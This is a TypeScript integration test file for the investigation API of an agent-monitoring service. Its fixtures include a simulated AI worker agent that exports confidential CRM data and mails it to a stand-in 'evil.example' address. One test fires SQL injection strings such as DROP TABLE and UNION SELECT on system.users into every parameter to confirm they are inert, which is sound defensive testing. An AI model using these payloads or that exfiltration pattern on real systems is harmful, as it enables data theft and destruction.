import { randomUUID } from 'node:crypto';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { InvestigationStore, toAgentActionRow, toDecisionRow, toFindingRow, toRiskSignalRow } from '@chainwatch/clickhouse';
import { errorBody } from '../src/http/error-body';
import { investigationRoutes } from '../src/routes/investigation';
import { testClickHouse, type TestClickHouse, makeDecisionRecord, makeEvent, makeFinding, makeRiskSignal } from '@chainwatch/testing';

const ANALYST = { 'x-test-role': 'analyst' };

describe('investigation routes over ClickHouse', () => {
  let ch: TestClickHouse;
  let app: FastifyInstance;
  const trace = `trace-${randomUUID()}`;
  const root = `root-${randomUUID()}`;
  const child = `child-${randomUUID()}`;
  const grandchild = `grand-${randomUUID()}`;
  const rule = `rule-${randomUUID().slice(0, 8)}`;
  const agentType = `worker-${randomUUID().slice(0, 8)}`;
  const t0 = Date.now() - 60_000;
  let findingIds: string[] = [];

  const insert = async (table: string, rows: unknown[]): Promise<void> => {
    await ch.client.insert({
      table: `${ch.database}.${table}`,
      values: rows,
      format: 'JSONEachRow',
      clickhouse_settings: { insert_deduplication_token: `test:${randomUUID()}` },
    });
  };
  const tableCounts = async (): Promise<Record<string, number>> => {
    const rows = await (
      await ch.client.query({
        query: `SELECT name, total_rows FROM system.tables WHERE database = {db:String} AND engine LIKE '%MergeTree' ORDER BY name`,
        query_params: { db: ch.database },
        format: 'JSONEachRow',
      })
    ).json<{ name: string; total_rows: string | number }>();
    return Object.fromEntries(rows.map((r) => [r.name, Number(r.total_rows)]));
  };

  beforeAll(async () => {
    ch = await testClickHouse();
    const planner = { type: 'planner', id: 'agent-planner' };
    const worker = { type: agentType, id: 'agent-worker' };
    await insert('agent_actions', [
      toAgentActionRow(makeEvent({ ts: t0, trace_id: trace, session_id: root, agent: planner, action: { kind: 'tool_call', tool: 'docs.search' } })),
      toAgentActionRow(makeEvent({ ts: t0 + 1000, trace_id: trace, session_id: root, agent: planner, action: { kind: 'delegation', tool: 'delegate', operation: 'delegate', target_session_id: child } })),
      toAgentActionRow(makeEvent({ ts: t0 + 2000, trace_id: trace, session_id: child, parent_session_id: root, agent: worker, action: { kind: 'tool_call', tool: 'crm.export', data_class: 'confidential' } })),
      toAgentActionRow(makeEvent({ ts: t0 + 4000, trace_id: trace, session_id: child, parent_session_id: root, agent: worker, action: { kind: 'tool_call', tool: 'mail.send', operation: 'send', destination: 'evil.example', args: { to: 'x@evil.example' } } })),
      toAgentActionRow(makeEvent({ ts: t0 + 5000, trace_id: trace, session_id: grandchild, parent_session_id: child, agent: worker, action: { kind: 'tool_call', tool: 'web.fetch' } })),
    ]);
    const findings = Array.from({ length: 5 }, (_, i) =>
      makeFinding({ ts: t0 + 3000 + i, trace_id: trace, session_id: child, agent_type: agentType, rule_id: rule, severity: i === 0 ? 'critical' : 'high' }),
    );
    findingIds = findings.map((f) => f.finding_id);
    await insert('findings', findings.map(toFindingRow));
    await insert('risk_signals', [
      toRiskSignalRow(makeRiskSignal({ ts: t0 + 1000, seq: 2, trace_id: trace, session_id: root, score: 10, level: 'low' })),
      toRiskSignalRow(makeRiskSignal({ ts: t0 + 1500, seq: 3, trace_id: trace, session_id: root, score: 30, level: 'medium' })),
      toRiskSignalRow(makeRiskSignal({ ts: t0 + 4000, seq: 2, trace_id: trace, session_id: child, agent_type: agentType, score: 85, level: 'high' })),
    ]);
    await insert('decisions', [toDecisionRow(makeDecisionRecord({ ts: t0 + 4500, trace_id: trace, session_id: child, tool: 'mail.send' }))]);

    app = Fastify();
    await app.register(investigationRoutes, {
      store: new InvestigationStore(ch.client, ch.database),
      preHandler: async (request, reply) => {
        if (request.headers['x-test-role'] !== 'analyst') await reply.code(403).send(errorBody('CW_FORBIDDEN', 'requires role analyst'));
      },
    });
    await app.ready();
  });
  afterAll(async () => {
    await app?.close();
    await ch?.close();
  });

  it('timeline: actions, findings and decisions of the session in time order', async () => {
    const res = await app.inject({ url: `/v1/sessions/${child}/timeline`, headers: ANALYST });
    expect(res.statusCode).toBe(200);
    const body = res.json<{ session_id: string; items: { kind: string; ts: number; tool?: string }[]; truncated: boolean }>();
    expect(body.session_id).toBe(child);
    expect(body.items.map((i) => i.kind)).toEqual(['action', 'finding', 'finding', 'finding', 'finding', 'finding', 'action', 'decision']);
    expect(body.items.map((i) => i.ts)).toEqual([...body.items.map((i) => i.ts)].sort((a, b) => a - b));
    expect(body.items[0]?.tool).toBe('crm.export');
    expect(JSON.stringify(body)).not.toContain('x@evil.example');
    expect(body.truncated).toBe(false);

    const limited = await app.inject({ url: `/v1/sessions/${child}/timeline?limit=3`, headers: ANALYST });
    expect(limited.json<{ items: unknown[]; truncated: boolean }>()).toMatchObject({ truncated: true });
    expect(limited.json<{ items: unknown[] }>().items).toHaveLength(3);
  });

  it('graph: sessions as nodes with their latest risk, delegations as edges (Grafana Node Graph fields)', async () => {
    const res = await app.inject({ url: `/v1/traces/${trace}/graph`, headers: ANALYST });
    expect(res.statusCode).toBe(200);
    const body = res.json<{ nodes: { id: string; title: string; subTitle: string; mainStat: number | null; secondaryStat: string }[]; edges: { id: string; source: string; target: string }[] }>();
    const byId = new Map(body.nodes.map((n) => [n.id, n]));
    expect([...byId.keys()].sort()).toEqual([root, child, grandchild].sort());
    expect(byId.get(root)).toMatchObject({ title: 'planner', subTitle: 'agent-planner', mainStat: 30, secondaryStat: 'medium' });
    expect(byId.get(child)).toMatchObject({ title: agentType, mainStat: 85, secondaryStat: 'high' });
    expect(byId.get(grandchild)).toMatchObject({ mainStat: null, secondaryStat: 'unknown' });
    expect(body.edges.map((e) => `${e.source}>${e.target}`).sort()).toEqual([`${root}>${child}`, `${child}>${grandchild}`].sort());
    expect(new Set(body.edges.map((e) => e.id)).size).toBe(body.edges.length);
  });

  it('findings: filtered, newest first, keyset pages without gaps or repeats', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const url: string = `/v1/findings?rule=${rule}&limit=2${cursor ? `&cursor=${cursor}` : ''}`;
      const res = await app.inject({ url, headers: ANALYST });
      expect(res.statusCode).toBe(200);
      const page = res.json<{ items: { finding_id: string; ts: number }[]; next_cursor: string | null }>();
      seen.push(...page.items.map((i) => i.finding_id));
      cursor = page.next_cursor;
      pages++;
    } while (cursor && pages < 10);
    expect(pages).toBe(3);
    expect(seen).toEqual([...findingIds].reverse());

    const critical = await app.inject({ url: `/v1/findings?rule=${rule}&level=critical`, headers: ANALYST });
    expect(critical.json<{ items: { finding_id: string }[] }>().items.map((i) => i.finding_id)).toEqual([findingIds[0]]);
    const byType = await app.inject({ url: `/v1/findings?agent_type=${agentType}&from=${t0}&to=${new Date(t0 + 10_000).toISOString()}`, headers: ANALYST });
    expect(byType.json<{ items: unknown[] }>().items).toHaveLength(5);
  });

  it('rejects bad input with 400 and the zod issues; bounds time range and rows', async () => {
    const cases = [
      `/v1/findings?limit=5000`,
      `/v1/findings?level=apocalyptic`,
      `/v1/findings?from=yesterday-ish`,
      `/v1/findings?unknown=1`,
      `/v1/sessions/${child}/timeline?limit=0`,
    ];
    for (const url of cases) {
      const res = await app.inject({ url, headers: ANALYST });
      expect(res.statusCode, url).toBe(400);
      expect(res.json<{ error: { code: string; issues: unknown[] } }>().error).toMatchObject({ code: 'CW_INVALID_REQUEST', issues: expect.any(Array) });
    }
    const wide = await app.inject({ url: `/v1/findings?from=${t0 - 40 * 86_400_000}&to=${t0}`, headers: ANALYST });
    expect(wide.statusCode).toBe(400);
    expect(wide.json<{ error: { message: string } }>().error.message).toContain('31 days');
    const badCursor = await app.inject({ url: `/v1/findings?cursor=bm90LWEtY3Vyc29y`, headers: ANALYST });
    expect(badCursor.statusCode).toBe(400);
  });

  it('SQL injection attempts in every parameter are inert', async () => {
    const before = await tableCounts();
    const attacks = [
      `' OR 1=1 --`,
      `x'); DROP TABLE ${'agent_actions'}; --`,
      `\\' UNION SELECT * FROM system.users --`,
      `{session:String}`,
      `1; DROP DATABASE ${'x'}`,
    ];
    for (const a of attacks) {
      const e = encodeURIComponent(a);
      const urls = [
        `/v1/sessions/${e}/timeline`,
        `/v1/sessions/${child}/timeline?from=${e}`,
        `/v1/sessions/${child}/timeline?limit=${e}`,
        `/v1/traces/${e}/graph`,
        `/v1/traces/${trace}/graph?to=${e}`,
        `/v1/findings?rule=${e}`,
        `/v1/findings?level=${e}`,
        `/v1/findings?agent_type=${e}`,
        `/v1/findings?cursor=${e}`,
        `/v1/findings?cursor=${Buffer.from(JSON.stringify({ ts: 1, id: a })).toString('base64url')}`,
      ];
      for (const url of urls) {
        const res = await app.inject({ url, headers: ANALYST });
        expect(res.statusCode, url).toBeLessThan(500);
        if (res.statusCode === 200) {
          const body = res.json<{ items?: unknown[]; nodes?: unknown[] }>();
          expect((body.items ?? body.nodes ?? []).length, url).toBe(0);
        }
      }
    }
    // A session id with quotes is just a value: it finds that session, not all of them.
    expect(await tableCounts()).toEqual(before);
  });

  it('refuses callers the preHandler refuses (e.g. an enforcer) with 403', async () => {
    for (const url of [`/v1/sessions/${child}/timeline`, `/v1/traces/${trace}/graph`, `/v1/findings`]) {
      const res = await app.inject({ url, headers: { 'x-test-role': 'enforcer' } });
      expect(res.statusCode).toBe(403);
      expect(res.json<{ error: { code: string } }>().error.code).toBe('CW_FORBIDDEN');
      expect(res.body).not.toContain(child);
    }
  });
});
